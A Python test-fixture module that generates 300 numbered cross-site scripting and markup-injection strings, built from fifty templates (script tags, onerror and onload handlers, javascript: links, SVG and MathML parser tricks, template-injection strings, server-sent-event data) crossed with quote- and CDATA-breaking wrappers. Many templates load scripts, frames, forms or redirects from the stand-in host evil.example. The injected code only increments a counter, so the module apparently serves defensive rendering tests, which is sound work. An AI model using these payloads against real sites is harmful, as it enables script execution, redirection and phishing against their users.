"""Three hundred pieces of text that would do harm if any of them became markup, each with its number in it."""

from __future__ import annotations

HOST = "evil.example"
COUNT = 300

_RUN = "window.hit=(window.hit||0)+1"
_TEMPLATES = (
    "<script>{run}</script>",
    "<script src=//{host}/{n}.js></script>",
    "</script><script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT>",
    "<img src=x onerror={run}>",
    "<img src=//{host}/{n}.png>",
    '"><img src=x onerror={run}>',
    "'><svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<form action=//{host}/{n}><button>送信</button></form>",
    "<form id=ask-room><input name=attributes></form>",
    "<button formaction=javascript:{run}>押す</button>",
    "<iframe src=//{host}/{n}></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=//{host}/{n}></object><embed src=//{host}/{n}>",
    "<link rel=stylesheet href=//{host}/{n}.css>",
    "<style>@import '//{host}/{n}.css';*{{display:none}}</style>",
    '<div style="background:url(//{host}/{n}.png);position:fixed;inset:0">覆う</div>',
    "<meta http-equiv=refresh content='0;url=//{host}/{n}'>",
    "<base href=//{host}/>",
    "<a href=javascript:{run}>記事</a>",
    "<video src=//{host}/{n}.mp4 onerror={run}></video><audio src=//{host}/{n}.mp3>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<body onload={run}>",
    "<template><img src=x onerror={run}></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "![絵](//{host}/{n}.png) ![絵](https://{host}/{n}.png)",
    "[記事](javascript:{run}) <javascript:{run}>",
    "[元記事]: //{host}/{n} '題'\n[元記事]",
    "```mermaid\ngraph TD; A[<img src=x onerror={run}>]\n```",
    "$$\\href{{javascript:{run}}}{{x}}$$ \\(\\unicode{{<img src=x onerror={run}>}}\\)",
    "${{{run}}} {{{{{run}}}}} <%= {run} %> #{{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "data:text/html,<script>{run}</script>",
    '"onmouseover="{run}" autofocus onfocus="{run}',
    "' style='animation-name:x' onanimationstart='{run}",
    "\u202e<img src=x onerror={run}>\u202c\u200b",
    "＜script＞{run}＜/script＞ ‹img src=x›",
    "\u2028<img src=x onerror={run}>\u2029",
    '\ndata: {{"html": "<img src=x onerror={run}>"}}\n\nevent: done\ndata: {{}}\n\n',
    'id: 99\nevent: done\ndata: {{"html":"<script>{run}</script>"}}',
    "&lt;img src=x onerror={run}&gt; &#60;script&#62;{run}&#60;/script&#62;",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "<textarea></textarea><img src=x onerror={run}></textarea>",
    "<a href='https://{host}/{n}' target=_top ping=//{host}/p>ログイン</a>",
)
_WRAPS = ("{0}", "前{0}後", "{0}\n{0}", '" {0}', "' {0}", "]]> {0} <![CDATA[")


def payloads() -> list[str]:
    """All of them, none twice."""
    found = []
    for wrap in _WRAPS:
        for template in _TEMPLATES:
            number = len(found)
            found.append(f"{number}番 " + wrap.format(template.format(run=_RUN, host=HOST, n=number)))
    return found
